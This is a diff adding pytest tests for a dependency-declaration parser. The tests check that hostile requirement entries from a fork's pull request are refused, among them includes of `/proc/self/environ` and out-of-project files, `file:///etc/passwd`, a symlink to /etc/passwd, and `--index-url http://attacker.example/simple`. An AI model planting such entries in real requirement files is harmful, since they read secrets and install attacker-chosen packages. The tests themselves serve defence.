@@ -56,3 +56,64 @@ def test_a_project_that_declares_nothing(tmp_path: Path) -> None:
     (tmp_path / "pyproject.toml").write_text("not [ toml")
     found = declared(tmp_path)
     assert found.requirements == () and found.text() is None
+
+
+def test_only_plain_requirements_of_the_repository_are_kept(tmp_path: Path) -> None:
+    """A fork's pull request writes these files: a path, a URL, an option or an include out of the
+    project would make pip build or read something of the attacker's choosing on the host."""
+    project = tmp_path / "proj"
+    project.mkdir()
+    (tmp_path / "outside.txt").write_text("leaked-name\n")
+    (project / "pyproject.toml").write_text(
+        "[project]\nname = 'proj'\ndependencies = ['evil @ file:///etc/passwd', 'attrs>=22']\n"
+        "[project.optional-dependencies]\ntest = ['pytest-mock']\n"
+    )
+    (project / "requirements.txt").write_text(
+        "-r /proc/self/environ\n"
+        "-r ../outside.txt\n"
+        "--requirement=more.txt\n"
+        "./localpkg\n"
+        "-e ./sub\n"
+        "-e .[test]\n"
+        "git+https://example.com/x/y.git\n"
+        "foo @ https://example.com/foo.whl\n"
+        "--index-url http://attacker.example/simple\n"
+        "-f /tmp\n"
+        "six==1.16.0 \\\n    --hash=sha256:0123456789abcdef\n"
+        'toolz[all]>=0.12 ; python_version >= "3"  # a comment\n'
+        "-c constraints.txt\n"
+    )
+    (project / "more.txt").write_text("idna\n")
+    (project / "requirements-dev.txt").symlink_to("/etc/passwd")
+    found = declared(project)
+    assert found.requirements == (
+        "idna",  # included by more.txt, inside the project
+        "pytest-mock",  # the project's own test extra, from `-e .[test]`
+        "six==1.16.0",
+        'toolz[all]>=0.12; python_version >= "3"',
+        "attrs>=22",
+    )
+    refused = {(item.where, item.line, item.why) for item in found.refused}
+    assert refused == {
+        ("requirements.txt line 1", "/proc/self/environ", "a file outside the project"),
+        ("requirements.txt line 2", str(project / "../outside.txt"), "a file outside the project"),
+        ("requirements.txt line 4", "./localpkg", "a local path"),
+        ("requirements.txt line 5", "-e ./sub", "an editable install"),
+        ("requirements.txt line 7", "git+https://example.com/x/y.git", "a local path"),
+        ("requirements.txt line 8", "foo @ https://example.com/foo.whl", "a URL"),
+        ("requirements.txt line 9", "--index-url http://attacker.example/simple", "an option"),
+        ("requirements.txt line 10", "-f /tmp", "an option"),
+        ("pyproject.toml [project] dependencies", "evil @ file:///etc/passwd", "a URL"),
+        ("requirements-dev.txt", str(project / "requirements-dev.txt"), "a file outside the project"),
+    }
+    assert "leaked-name" not in found.requirements
+    message = next(item.text() for item in found.refused if item.why == "an option")
+    assert message.startswith(
+        "requirements.txt line 9: '--index-url http://attacker.example/simple' refused (an option)"
+    )
+
+
+def test_the_operators_requirements_are_held_to_the_same_form(tmp_path: Path) -> None:
+    found = declared(tmp_path, extra=["toolz==1.0.0", "--extra-index-url=http://x"])
+    assert found.requirements == ("toolz==1.0.0",)
+    assert [item.why for item in found.refused] == ["an option"]
